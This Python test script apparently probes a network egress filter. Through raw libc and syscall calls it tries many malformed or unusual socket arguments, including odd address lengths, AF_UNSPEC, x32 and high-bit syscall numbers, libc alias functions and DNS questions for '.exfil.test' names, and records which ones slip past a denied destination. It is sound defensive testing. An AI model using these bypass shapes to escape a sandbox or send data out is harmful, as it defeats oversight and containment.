"""Argument shapes the kernel accepts, tried the way a pure-Python dependency can: socket + ctypes.

Every attempt goes through the process's own libc symbols (ctypes.CDLL(None)), so it reaches whatever is
interposed there, exactly like a C extension's call would. Each attempt prints one JSON line
{"case", "rc", "errno"} and, when the kernel accepts it, puts a datagram / connection / DNS question in front of the
witness server. The run ends with the datagram `sentinel:<tag>` to the allowed sink.

usage: socket_shapes.py TAG ALLOWED DENIED NAMESERVER ALLOWED6 DENIED6 NAMESERVER6 SINK ECHO
"""

from __future__ import annotations

import ctypes
import errno
import json
import platform
import socket
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.syscall.argtypes = [ctypes.c_long] * 7

# system call numbers of the machine (the x32 bit only means something on x86_64)
SYS = {
    "x86_64": {"connect": 42, "sendto": 44, "getpid": 39},
    "aarch64": {"connect": 203, "sendto": 206, "getpid": 172},
}[platform.machine()]
X32_BIT = 0x40000000


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class MsgHdr(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p),
        ("namelen", ctypes.c_uint32),
        ("iov", ctypes.POINTER(IoVec)),
        ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    ]


class MMsgHdr(ctypes.Structure):
    _fields_ = [("hdr", MsgHdr), ("len", ctypes.c_uint)]


def sin(ip: str, port: int, family: int = socket.AF_INET, size: int = 16) -> bytes:
    raw = struct.pack("<H", family) + struct.pack(">H", port) + socket.inet_aton(ip)
    return (raw + b"\0" * size)[:size]


def sin6(ip: str, port: int, size: int = 28) -> bytes:
    head = struct.pack("<H", socket.AF_INET6) + struct.pack(">H", port) + b"\0" * 4
    return (head + socket.inet_pton(socket.AF_INET6, ip) + b"\0" * 8)[:size]


def dns_query(name: str) -> bytes:
    q = struct.pack(">HHHHHH", 0x4547, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)


def report(case: str, rc: int) -> None:
    e = ctypes.get_errno() if rc < 0 else 0
    print(json.dumps({"case": case, "rc": rc, "errno": errno.errorcode.get(e, str(e)) if e else None}), flush=True)


def cbuf(data: bytes) -> ctypes.Array[ctypes.c_char]:
    return ctypes.create_string_buffer(data, len(data))


def sendto(case: str, s: socket.socket, addr: bytes, length: int | None = None) -> None:
    payload = f"case:{case}".encode()
    a = cbuf(addr)
    ctypes.set_errno(0)
    rc = libc.sendto(s.fileno(), payload, len(payload), 0, a, len(addr) if length is None else length)
    report(case, rc)


def connect(case: str, s: socket.socket, addr: bytes, name: str = "connect") -> None:
    a = cbuf(addr)
    ctypes.set_errno(0)
    report(case, libc[name](s.fileno(), a, len(addr)))


def sendmsg(case: str, s: socket.socket, name: bytes | None, namelen: int, data: bytes) -> None:
    a = cbuf(name) if name is not None else None
    d = cbuf(data)
    iov = IoVec(ctypes.cast(d, ctypes.c_void_p), len(data))
    name_ptr = ctypes.cast(a, ctypes.c_void_p) if a is not None else None
    m = MsgHdr(name_ptr, namelen, ctypes.pointer(iov), 1, None, 0, 0)
    ctypes.set_errno(0)
    report(case, libc.sendmsg(s.fileno(), ctypes.byref(m), 0))


def sendmmsg(case: str, s: socket.socket, name: bytes, data: bytes) -> None:
    a = cbuf(name)
    d = cbuf(data)
    iov = IoVec(ctypes.cast(d, ctypes.c_void_p), len(data))
    v = (MMsgHdr * 1)()
    v[0].hdr = MsgHdr(ctypes.cast(a, ctypes.c_void_p), len(name), ctypes.pointer(iov), 1, None, 0, 0)
    ctypes.set_errno(0)
    report(case, libc.sendmmsg(s.fileno(), v, 1, 0))


def syscall(case: str, nr: int, *args: int) -> None:
    words = [*args, 0, 0, 0, 0, 0, 0][:6]
    ctypes.set_errno(0)
    report(case, libc.syscall(nr, *words))


def main() -> None:
    tag, allowed, denied, ns, allowed6, denied6, ns6, sink_s, echo_s = sys.argv[1:10]
    sink, echo = int(sink_s), int(echo_s)
    u4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    tcp6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    # IPv6 addresses the kernel takes without sin6_scope_id (24 bytes, RFC 2133 layout) or cut short
    connect("v6-len24-connect", tcp6, sin6(denied6, echo, 24))
    sendto("v6-len24-sendto", u6, sin6(denied6, sink, 24))
    sendto("v6-len26-sendto", u6, sin6(denied6, sink, 26))
    # lengths above sizeof(struct sockaddr_in): up to 128 the kernel reads them
    sendto("v4-len32-sendto", u4, sin(denied, sink, size=32))
    sendto("v4-len128-sendto", u4, sin(denied, sink, size=128))
    sendto("v4-len129-sendto", u4, sin(denied, sink, size=129))
    # AF_UNSPEC: an AF_INET datagram socket reads it as AF_INET (udp_sendmsg)
    unspec = sin(denied, sink, family=socket.AF_UNSPEC)
    sendto("unspec-v4-sendto", u4, unspec)
    sendmmsg("unspec-v4-sendmmsg", u4, unspec, b"case:unspec-v4-sendmmsg")
    # an AF_INET address on an AF_INET6 socket, and an IPv4-mapped one
    sendto("inet-on-v6-sendto", u6, sin(denied, sink))
    sendto("mapped-v6-sendto", u6, sin6(f"::ffff:{denied}", sink))
    # connect(AF_UNSPEC) is a disconnect: nothing to decide, whatever bytes follow the family
    connect("unspec-connect", socket.socket(socket.AF_INET, socket.SOCK_DGRAM), unspec)
    # syscall numbers as the kernel truncates them (low 32 bits), and the x32 bit
    to_denied, to_allowed = keep(sin(denied, echo)), keep(sin(allowed, echo))
    datagram, sink_denied = keep(b"case:syscall-hi-sendto"), keep(sin(denied, sink))
    syscall("syscall-hi-connect", SYS["connect"] | (1 << 32), tcp4(), addr(to_denied), 16)
    hi_sendto = SYS["sendto"] | (0x7FFF << 48)
    syscall("syscall-hi-sendto", hi_sendto, u4.fileno(), addr(datagram), 22, 0, addr(sink_denied), 16)
    syscall("syscall-x32-connect-denied", SYS["connect"] | X32_BIT, tcp4(), addr(to_denied), 16)
    syscall("syscall-x32-connect-allowed", SYS["connect"] | X32_BIT, tcp4(), addr(to_allowed), 16)
    syscall("x32-getpid", SYS["getpid"] | X32_BIT)  # tells whether this kernel has x32 at all
    # a msghdr whose msg_name is set but whose msg_namelen is 0 has no address: it goes to the connected peer, here
    # the (allowed) nameserver, carrying a question for a denied name
    d4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    d4.connect((ns, 53))
    sendmsg("sendmsg-namelen0-dns", d4, sin(denied, 53), 0, dns_query("namelen0.exfil.test"))
    sendmsg("sendmsg-namelen200", u4, sin(denied, sink, size=200), 200, b"case:sendmsg-namelen200")
    # AF_UNSPEC on an AF_INET6 datagram socket is dropped: the datagram goes to the connected peer
    d6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    d6.connect((ns6, 53))
    q = dns_query("unspec6.exfil.test")
    ctypes.set_errno(0)
    unspec53 = cbuf(sin(denied, 53, family=socket.AF_UNSPEC))
    report("unspec-v6-dns", libc.sendto(d6.fileno(), q, len(q), 0, unspec53, 16))
    # libc's public double-underscore names of the same functions, looked up in the program's own scope
    connect("alias-__connect", socket.socket(socket.AF_INET, socket.SOCK_STREAM), sin(denied, echo), "__connect")
    a4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    a4.connect((ns, 53))
    for case, fn in [("alias-__send", "__send"), ("alias-__write", "__write")]:
        q = dns_query(f"{case[6:].strip('_')}.exfil.test")
        ctypes.set_errno(0)
        rc = libc[fn](a4.fileno(), q, len(q), 0) if fn == "__send" else libc[fn](a4.fileno(), q, len(q))
        report(case, rc)
    q = dns_query("dup2.exfil.test")
    libc.__dup2(a4.fileno(), 400)
    ctypes.set_errno(0)
    report("alias-__dup2", libc.write(400, q, len(q)))
    ctypes.set_errno(0)
    copy = libc.__fcntl(a4.fileno(), 0, 500)  # F_DUPFD
    q = dns_query("fcntl.exfil.test")
    report("alias-__fcntl", libc.write(copy, q, len(q)) if copy >= 0 else copy)
    # one sendmmsg vector with mixed destinations: allowed, denied, allowed — only what comes before the denied one
    # may leave (sendmmsg's partial-success contract)
    names = [keep(sin6(ip, sink)) for ip in (allowed6, denied6, allowed6)]
    texts = [f"case:mmsg-mixed-{i}".encode() for i in range(3)]
    bodies = [keep(t) for t in texts]
    iovs = (IoVec * 3)(*[IoVec(addr(b), len(t)) for b, t in zip(bodies, texts, strict=True)])
    v = (MMsgHdr * 3)()
    for i in range(3):
        v[i].hdr = MsgHdr(addr(names[i]), 28, ctypes.pointer(iovs[i]), 1, None, 0, 0)
    ctypes.set_errno(0)
    report("sendmmsg-mixed", libc.sendmmsg(u6.fileno(), v, 3, 0))
    sentinel(tag, allowed, sink)


def sentinel(tag: str, allowed: str, sink: int) -> None:
    """Sends `sentinel:<tag>` to the sink until it answers, so it is known to have been recorded."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.2)
    for _ in range(50):
        s.sendto(f"sentinel:{tag}".encode(), (allowed, sink))
        try:
            if s.recv(512).startswith(b"ack:sentinel"):
                return
        except TimeoutError:
            continue


_kept: list[ctypes.Array[ctypes.c_char]] = []


def keep(data: bytes) -> ctypes.Array[ctypes.c_char]:
    b = cbuf(data)
    _kept.append(b)
    return b


def addr(buf: ctypes.Array[ctypes.c_char]) -> int:
    return ctypes.addressof(buf)


def tcp4() -> int:
    return socket.socket(socket.AF_INET, socket.SOCK_STREAM).detach()


if __name__ == "__main__":
    main()
